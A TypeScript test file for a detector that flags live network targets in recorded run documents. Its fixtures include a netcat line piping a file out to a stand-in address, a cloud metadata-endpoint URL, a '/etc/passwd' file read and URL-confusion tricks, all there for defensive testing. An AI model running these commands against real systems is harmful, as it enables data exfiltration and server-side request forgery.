import assert from 'node:assert/strict'
import { test } from 'node:test'
import { liveTargets } from './live-target.ts'

const told = (document: unknown): string[] =>
  liveTargets(document, () => 1).map(({ pointer }) => pointer)
const header = (name: string, value: string): unknown => ({
  run: { exchange: [{ headers: { [name]: value } }] },
})
const body = (text: string): unknown => ({ run: { exchange: [{ body: text }] } })
const command = (...words: readonly string[]): unknown => ({ run: { command: words } })

for (const document of [
  command('curl', 'http://shop.example.com/'),
  command('curl', 'HTTPS://shop.example.com'),
  command('curl', 'http:\\\\shop.example.com'),
  command('curl', 'http://127.0.0.1@shop.example.com/'),
  command('curl', 'http://127.0.0.1.shop.example.com/'),
  command('curl', 'http://[2606:4700::1111]/'),
  command('curl', 'http://localhost.example.com/'),
  command('sh', '-c', 'cat x | nc 203.0.113.9 80'),
  command('nc', 'shop.example.com:443'),
  command('nc', '10.0.0.1'),
  command('x', '--url=ws://10.0.0.1/'),
  command('x', 'http://evil.test/'),
  header('Host', 'shop.example.com'),
  header('host', 'shop.example.com:8080'),
  header('X-Forwarded-For', '8.8.8.8'),
  body('{"url": "http://169.254.169.254/latest"}'),
  { environment: { tools: { gcc: 'https://gcc.gnu.org/' } } },
  { benign: { exchange: [{ body: 'http://intra.corp/' }] } },
  { variants: [{ exchange: [{ path: '/?u=http://intra.corp/' }] }] },
  { oracle: { kind: 'assertion', command: ['curl', 'http://intra.corp/'] } },
]) {
  test(`${JSON.stringify(document)} names a live target`, () => {
    assert.equal(told(document).length, 1)
  })
}

test('the loopback, files, versions and places in code are no live targets', () => {
  for (const document of [
    command('curl', 'http://127.0.0.1:8080/x', 'http://localhost:1/', 'http://[::1]/', '127.0.0.1'),
    command('./reader', 'file:///etc/passwd', '{input}', 'server.py:12', 'lib-1.2.3.4.jar', 'a.b'),
    command('java', '-jar', 'app.jar', '--version', '1.2.3'),
    header('Host', '127.0.0.1:8080'),
    header('Host', 'attacker.test'),
    header('Accept', 'text/html, */*;q=0.8'),
    body('{"url": "http://attacker.example/x", "ip": "192.0.2.7"}'),
    { environment: { tools: { node: '24.1.0.1' }, reference: `docker.io/gcc@sha256:00` } },
    { target: { url: 'https://git.example.com/x' }, build: ['make http://x.example.com/'] },
    { oracle: { says: 'listening on 10.0.0.1' } },
    [],
    null,
  ]) {
    assert.deepEqual(told(document), [], JSON.stringify(document))
  }
})
